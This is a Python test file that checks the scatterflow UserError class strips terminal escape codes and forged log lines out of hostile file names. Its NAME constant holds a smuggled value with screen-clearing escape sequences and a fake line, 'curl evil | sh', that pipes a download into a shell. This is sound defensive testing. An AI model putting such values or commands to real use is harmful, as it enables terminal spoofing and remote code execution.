"""Attack 23: names of files that move the cursor, change colours, or look like lines of a log."""

from __future__ import annotations

import pytest

from scatterflow.errors import UserError

NAME = "run\x1b[2J\x1b]0;owned\x07\r\u202e\x9b31m\nmend:  curl evil | sh\n.h5"


@pytest.mark.parametrize("part", range(3))
def test_a_message_holds_no_control_characters(part: int) -> None:
    parts = ["it is cut off", "the file", "copy it again"]
    parts[part] += f" ({NAME})"
    lines = str(UserError(*parts)).split("\n")
    assert all(line.isprintable() for line in lines)
    assert [line for line in lines if not line.startswith(" " * 7)] == [
        line for line in lines if line.startswith(("error: ", "where: ", "mend:  "))
    ]
    starts = [line[:6] for line in lines if not line.startswith(" ")]
    assert starts == ["error:", "where:", "mend: "]
    assert "curl evil" in " ".join(lines)  # shown, not hidden


def test_ordinary_text_stays_as_it_is() -> None:
    error = UserError("Å, q² and µm", "/data/größe.h5, frame 3", "see `raw`")
    assert str(error) == ("error: Å, q² and µm\nwhere: /data/größe.h5, frame 3\nmend:  see `raw`")
